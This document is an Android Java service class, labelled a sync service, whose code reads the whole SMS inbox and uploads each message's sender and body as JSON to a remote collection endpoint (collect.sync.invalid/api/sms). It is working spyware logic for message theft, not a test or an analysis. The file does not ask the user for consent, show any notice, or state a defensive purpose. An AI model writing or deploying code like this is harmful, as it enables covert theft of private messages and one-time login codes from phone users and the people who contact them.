package com.example.syncservice;

import android.app.Service;
import android.content.Intent;
import android.database.Cursor;
import android.net.Uri;
import android.os.IBinder;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Reads the SMS inbox and hands it on as JSON. */
public class CollectService extends Service implements Runnable {
  @Override
  public int onStartCommand(Intent intent, int flags, int startId) {
    new Thread(this).start();
    return START_NOT_STICKY;
  }

  @Override
  public IBinder onBind(Intent intent) {
    return null;
  }

  @Override
  public void run() {
    try {
      JSONArray messages = inbox();
      if (messages.length() > 0) {
        new Uploader("https://collect.sync.invalid/api/sms").post(messages.toString());
      }
    } catch (JSONException e) {
      stopSelf();
    }
  }

  private JSONArray inbox() throws JSONException {
    JSONArray messages = new JSONArray();
    Uri uri = Uri.parse("content://sms/inbox");
    Cursor cursor = getContentResolver().query(uri, null, null, null, "date DESC");
    while (cursor != null && cursor.moveToNext()) {
      JSONObject message = new JSONObject();
      message.put("from", cursor.getString(cursor.getColumnIndex("address")));
      message.put("body", cursor.getString(cursor.getColumnIndex("body")));
      messages.put(message);
    }
    if (cursor != null) {
      cursor.close();
    }
    return messages;
  }
}
